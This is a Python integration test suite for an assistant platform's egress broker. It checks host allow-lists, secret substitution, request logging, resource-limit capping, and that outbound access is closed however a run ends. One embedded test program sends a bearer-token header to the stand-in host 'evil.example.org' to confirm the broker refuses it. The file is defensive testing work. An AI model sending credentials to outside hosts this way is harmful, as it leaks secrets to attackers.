"""An attempt and the way out: who may reach what, with which secrets, and what is told of it."""

from __future__ import annotations

import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Any, ClassVar

import pytest

from pythonic_assistant.adapters.egress.broker import EgressBroker
from pythonic_assistant.adapters.egress.policy import read_routes
from tests.integration.attempt_world import World

pytestmark = pytest.mark.timeout(60)

SWAPPED = "swapped-canary-4711"


class Upstream(BaseHTTPRequestHandler):
    """Remembers what came, and sends it back as a careless service does."""

    came: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        self.came.append(self.headers["Authorization"])
        body = f"you are {self.headers['Authorization']}".encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: Any) -> None:
        """Say nothing."""


QUIET = 'succeed("done")\n'
OUTWARD = """
import asyncio, socket, threading, urllib.error, urllib.request
from pathlib import Path
from pythonic_assistant.adapters.egress.client import BrokerEgress
grant = order["egress"]
listener = socket.create_server(("127.0.0.1", 0))
port = listener.getsockname()[1]
opener = urllib.request.build_opener(urllib.request.ProxyHandler({"http": f"http://127.0.0.1:{port}"}))
def get(url):
    asked = urllib.request.Request(url, headers={"Authorization": "Bearer " + environment["TOKEN"]})
    try:
        with opener.open(asked, timeout=10) as answer:
            return answer.read().decode()
    except urllib.error.HTTPError as error:
        return str(error.code)
async def main():
    egress = BrokerEgress(Path(grant["socket"]), grant["token"], grant["certificate"], request["hosts"])
    async with egress.serve(listener):
        got = await asyncio.to_thread(get, "http://api.example.org/x?y")
        refused = await asyncio.to_thread(get, "http://evil.example.org/")
        return got, refused
got, refused = asyncio.run(main())
succeed(json.dumps([got == "you are Bearer " + environment["TOKEN"], refused]))
"""


async def test_the_proxy_puts_the_value_in_and_every_request_is_told(world: World) -> None:
    await world.secret("TOKEN", SWAPPED, "api.example.org")
    task = await world.ask(hosts=["api.example.org"])
    Upstream.came.clear()
    with ThreadingHTTPServer(("127.0.0.1", 0), Upstream) as server, TemporaryDirectory() as place:
        threading.Thread(target=server.serve_forever, args=(0.05,)).start()
        routes = read_routes(f"api.example.org=http://127.0.0.1:{server.server_port}")
        async with EgressBroker(Path(place) / "out", routes=routes) as world.way_out:
            row = await world.work(OUTWARD)
        server.shutdown()
    assert Upstream.came == [f"Bearer {SWAPPED}"]
    assert row["state"] == "succeeded", row["error"]
    assert json.loads(row["answer"]) == [True, "403"], "the answer shows the placeholder, not the value"
    told = [event for event in await world.events(task) if event["kind"] == "egress_requested"]
    first, second = told
    assert (first["host"], first["outcome"], first["status"]) == ("api.example.org", "allowed", 200)
    assert first["secrets"] == ["TOKEN"]
    assert (second["host"], second["outcome"]) == ("evil.example.org", "refused")
    assert SWAPPED not in await world.everything()


async def test_hosts_come_from_task_thread_and_assistant_and_limits_are_capped(world: World) -> None:
    assistant = await world.database.fetchval(
        """insert into public.assistants (user_id, name, hosts, limits, tools)
        values ($1, 'A', '{a.example.org,c.example.org}', '{"turns": 3, "memory_bytes": 67108864}', '{}')
        returning id""",
        world.person,
    )
    thread = await world.database.fetchval(
        """insert into public.threads (user_id, assistant_id, hosts) values ($1, $2, '{b.example.org}')
        returning id""",
        world.person,
        assistant,
    )
    limits = json.dumps({"turns": 7, "processes": 1_000_000})
    task = await world.ask(thread_id=thread, hosts=["c.example.org"], limits=limits)
    row = await world.work(
        """
        limits = request["limits"]
        got = [request["hosts"], limits["memory_bytes"], limits["processes"], request["budget"]["turns"]]
        succeed(json.dumps(got + [request["tools"], order["egress"]["certificate"]]))
        """
    )
    hosts, memory, processes, turns, tools, certificate = json.loads(row["answer"])
    assert hosts == ["a.example.org", "b.example.org", "c.example.org"]
    assert (memory, processes, turns, tools, certificate) == (64 << 20, 64, 7, [], "PEM")
    notes = [event["text"] for event in await world.events(task) if event["kind"] == "noted"]
    assert any("processes is 64" in text for text in notes)


async def test_without_hosts_there_is_no_way_out(world: World) -> None:
    await world.secret("TOKEN", SWAPPED, "api.example.org")
    await world.ask()
    row = await world.work('succeed(json.dumps([order["egress"], request["environment"], request["hosts"]]))')
    assert json.loads(row["answer"]) == [None, {}, []]
    assert world.broker.granted == []


@pytest.mark.parametrize(
    "program",
    [
        "sys.exit(3)",
        "print('garbage', flush=True)",
        "os.kill(os.getpid(), 9)",
        "print('{\"ask\": 1}', flush=True)",
    ],
)
async def test_the_way_out_is_closed_however_a_run_ends(world: World, program: str) -> None:
    task = await world.ask(hosts=["api.example.org"])
    row = await world.work(program)
    assert row["state"] == "scheduled"
    assert len(world.broker.granted) == 1
    assert world.broker.open == {}
    assert [event["kind"] for event in await world.events(task)].count("egress_requested") == 1
